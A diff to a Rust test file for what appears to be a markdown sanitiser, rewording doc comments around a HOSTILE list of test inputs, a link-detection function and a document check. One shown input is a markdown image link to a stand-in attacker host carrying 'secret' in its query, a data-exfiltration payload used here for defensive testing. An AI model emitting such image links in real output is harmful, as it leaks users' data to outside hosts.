@@ -2,7 +2,7 @@ use super::*;
 use proptest::prelude::*;
 use pulldown_cmark::{CodeBlockKind, Event, Options, Parser, Tag, TagEnd};
 
-/// Text as somebody with bad intentions writes it.
+/// Malicious text.
 const HOSTILE: [&str; 15] = [
     "!\n* `",
     "![x](http://evil.example/?q=secret)",
@@ -29,7 +29,7 @@ fn markdown(text: &str) -> Vec<Event<'_>> {
     .collect()
 }
 
-/// What a forge would act on in text outside code.
+/// Whether a forge would interpret something in text outside of code.
 fn acted_on(text: &str) -> bool {
     text.chars().any(|c| "@#<>[]&/*_~$|".contains(c) || is_hidden(c))
         || text.contains("www.")
@@ -179,7 +179,7 @@ fn numbers_read_well() {
     assert_eq!(plain_line("Fix @bob's `thing` — closes #12: a/b!", 80), "Fix bob's thing closes 12 a b");
 }
 
-/// The kinds of block and inline a foreign document may hold; no link, image, HTML or reference among them.
+/// Checks that an untrusted document has only harmless blocks and inlines: no link, image, HTML or reference.
 fn check_document(text: &str) -> Result<(), TestCaseError> {
     let rendered = format!("{}\nafter\n", document(text, 4000));
     let mut quoted = 0;
